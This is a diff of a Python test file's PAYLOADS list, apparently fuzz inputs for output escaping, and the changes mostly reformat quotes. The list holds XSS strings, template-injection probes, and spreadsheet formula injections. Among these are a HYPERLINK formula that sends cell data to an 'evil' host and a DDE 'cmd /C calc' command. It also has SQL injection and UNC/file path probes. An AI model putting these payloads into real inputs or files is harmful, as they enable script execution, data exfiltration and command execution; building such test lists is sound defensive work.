@@ -6,19 +6,21 @@ from datetime import date, datetime
 from types import NoneType, UnionType
 
 PAYLOADS = [
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
-    "' onmouseover='alert(1)", "\" onfocus=alert(1) autofocus=\"", "</style><script>alert(1)//",
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>',
+    "' onmouseover='alert(1)", '" onfocus=alert(1) autofocus="', "</style><script>alert(1)//",
     "</title><script>alert(1)</script>", "</td></tr></table><h1>paid</h1>", "<!--", "-->",
     "<![CDATA[", "]]>", "<?php ?>", "{{ 7*7 }}", "{% raw %}", "{# x #}", "${7*7}", "#{7*7}",
     "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example/x",
     "https://evil.example/?a=1", "http://evil.example", "mailto:a@evil.example", "file:///etc/x",
     "ftp://evil.example", "internal:'Rules'!A1", "external:c:\\x.xlsx", "\\\\evil\\share",
-    "=1+1", "=HYPERLINK(\"http://evil/?\"&A1)", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)",
-    "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1", "\uff1d1+1", "{=SUM(A1)}", "=WEBSERVICE(\"http://e\")",
-    "=DDE(\"a\";\"b\")", "1E400", "0x1F", "007", "1/2", "TRUE", "#REF!", "_x0041_", "_x000D_",
-    "a\x01b\x08c", "\ufffe\uffff", "\u202egnp.exe", "\u200b", "e\u0301" * 50, "\U0001f4b8" * 40,
-    "x" * 40_000, "&lt;b&gt;&amp;&#60;", "&copy;&nbsp;", "'; drop table x; --", "a\nb\r\nc", " lead ",
-    "%00%0d%0a", "url(http://evil.example/a.png)", "expression(alert(1))", "@import 'http://e'",
+    "=1+1", '=HYPERLINK("http://evil/?"&A1)', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)",
+    "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1", "\uff1d1+1", "{=SUM(A1)}", '=WEBSERVICE("http://e")',
+    '=DDE("a";"b")', "1E400", "0x1F", "007", "1/2", "TRUE", "#REF!", "_x0041_", "_x000D_",
+    "a\x01b\x08c", "\ufffe\uffff", "\u200b", "e\u0301" * 50, "\U0001f4b8" * 40,
+    "x" * 40_000, "&lt;b&gt;&amp;&#60;", "&copy;&nbsp;", "'; drop table x; --", "a\nb\r\nc",
+    " lead ",
+    "%00%0d%0a", "\u202egnp.exe", "url(http://evil.example/a.png)", "expression(alert(1))",
+    "@import 'http://e'",
 ]  # fmt: skip
 
 
